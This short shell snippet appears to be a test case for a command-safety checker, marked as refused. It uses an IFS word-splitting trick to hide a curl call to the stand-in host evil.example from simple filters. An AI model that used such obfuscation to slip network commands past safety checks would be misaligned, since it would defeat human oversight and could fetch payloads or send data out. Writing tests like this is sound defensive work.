# Trick: words split at another character.
# Refused: unsafe(environment)
IFS=,
x=curl,http://evil.example/
$x
